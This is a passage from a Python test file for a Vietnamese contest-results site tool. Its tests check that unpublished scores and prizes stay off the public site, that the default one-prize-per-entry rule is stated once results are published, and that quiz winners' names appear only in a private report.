        "quy định mặc định mỗi tác phẩm chỉ nhận một giải (kế hoạch không nêu quy định này), Giải Bình chọn được "
        "trao cho “Tác phẩm 04” – xếp thứ 2 về lượt bình chọn (30 lượt)."
    )
    for paper in ("to-trinh-de-nghi-khen-thuong.docx", "du-thao-quyet-dinh-khen-thuong.docx"):
        found = list((tmp_path / "reports" / "2025-thu").glob(paper))
        assert found, paper
        assert said in [p.text for p in Document(str(found[0])).paragraphs], paper


def test_validate_shows_the_computed_results_before_they_are_published_and_the_site_none(tree, tmp_path, capsys):
    """validate shows the organizers the ranking, the prizes, the default rule applied and the
    input errors of the score sheets while ``published: false``; the build publishes none of it."""
    contest = _most_voted_holds_the_first_prize(tree)
    contest["results"]["published"] = False
    (tree.root / "2025-thu" / "contest.yml").write_text(yaml.safe_dump(contest, allow_unicode=True), encoding="utf-8")
    with open(tree.root / "2025-thu" / "_ket-qua" / "diem" / "gk-1.csv", "a", encoding="utf-8") as sheet:
        sheet.write("e-99,,,50,30,\n")  # a line for an entry that does not exist
    config = write_mkdocs_yml(tmp_path)
    assert cli.main(["validate", "-f", str(config), "--html", str(tmp_path / "r.html")]) == 0
    out = capsys.readouterr().out
    assert "JUR002" in out and "e-99" in out  # the input error is not hidden from the office
    assert "== 2025-thu: kết quả tính toán – CHƯA CÔNG BỐ" in out
    assert (
        "    1  e-01  “Tác phẩm 01” – UBND xã 1: 98,50 điểm (2 giám khảo chấm), 500 lượt bình chọn" in out
    )  # gk-3: own unit
    assert "    4  e-04  “Tác phẩm 04” – UBND xã 4: 94,00 điểm (3 giám khảo chấm), 30 lượt bình chọn" in out
    assert "  Giải Nhất: e-01 “Tác phẩm 01” (98,50 điểm)" in out
    assert "  Giải Bình chọn: e-04 “Tác phẩm 04” (30 lượt bình chọn)" in out
    assert "Giải Bình chọn được trao cho “Tác phẩm 04” – xếp thứ 2 về lượt bình chọn (30 lượt)." in out
    assert "'prizes.one_prize_per_entry: false' trong contest.yml" in out
    report = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert "CHƯA CÔNG BỐ" in report and "Giải Bình chọn được trao cho" in report and "98,50" in report
    assert cli.main(["build", "-f", str(config), "--site-dir", str(tmp_path / "site")]) == 0
    logs = capsys.readouterr()
    assert "CHƯA CÔNG BỐ" not in logs.out + logs.err and "e-99" not in logs.out + logs.err
    for page in (tmp_path / "site").rglob("*"):  # pages, feeds, search index, exports
        if page.suffix in (".html", ".json", ".xml", ".csv", ".ics", ".txt"):
            text = page.read_text(encoding="utf-8")
            assert "được trao cho" not in text and "cp-defaults" not in text, page
            assert "98,5" not in text and "98.5" not in text, page  # e-01's mean score


def test_the_results_page_names_the_default_rule_once_published(tree, tmp_path, capsys):
    _most_voted_holds_the_first_prize(tree)
    config = write_mkdocs_yml(tmp_path)
    assert cli.main(["build", "-f", str(config), "--site-dir", str(tmp_path / "site")]) == 0
    page = (tmp_path / "site" / "2025-thu" / "ket-qua" / "index.html").read_text(encoding="utf-8")
    assert (
        "cp-defaults" in page
        and (
            "Tác phẩm “Tác phẩm 01” xếp thứ 1 về lượt bình chọn (500 lượt) nhưng đã nhận Giải Nhất; theo quy "
            "định mặc định mỗi tác phẩm chỉ nhận một giải (kế hoạch không nêu quy định này), Giải Bình chọn được trao "
            "cho “Tác phẩm 04” – xếp thứ 2 về lượt bình chọn (30 lượt)."
        )
        in page
    )
    assert "(e-01)" not in page and "(e-04)" not in page  # titles only: folder codes never reach the public
    assert "one_prize_per_entry" not in page  # how to change it is for the office, in validate


def test_validate_names_quiz_winners_by_their_row_and_the_private_report_by_name(tree, tmp_path, capsys):
    """The text report holds no personal data (it may be pasted anywhere): a quiz winner is the row
    of the quiz file; the private HTML report names them."""
    _make(
        tree,
        _contest([{"id": "tn", "name": "Giải trắc nghiệm", "count": 1, "basis": "quiz"}], n_units=2, published=False),
        1,
    )
    write_csv(
        tree.root / "2025-thu" / "_ket-qua" / "trac-nghiem.csv",
        ["Họ và tên", "Mã thí sinh", "Đơn vị", "Số câu đúng", "Thời gian"],
        [["Lê Thị Bình", "TS07", "UBND xã 2", 18, "2:10"], ["Trần Văn An", "TS03", "UBND xã 1", 19, "2:35"]],
    )
    config = write_mkdocs_yml(tmp_path)
    assert cli.main(["validate", "-f", str(config), "--html", str(tmp_path / "r.html")]) == 0
    out = capsys.readouterr().out
    assert "  Giải trắc nghiệm: thí sinh ở dòng 3 của tệp trắc nghiệm (TS03) (19 câu đúng, 2:35)" in out
    assert "Trần Văn An" not in out and "Lê Thị Bình" not in out
    assert "Trần Văn An – UBND xã 1 (19 câu đúng, 2:35)" in (tmp_path / "r.html").read_text(encoding="utf-8")
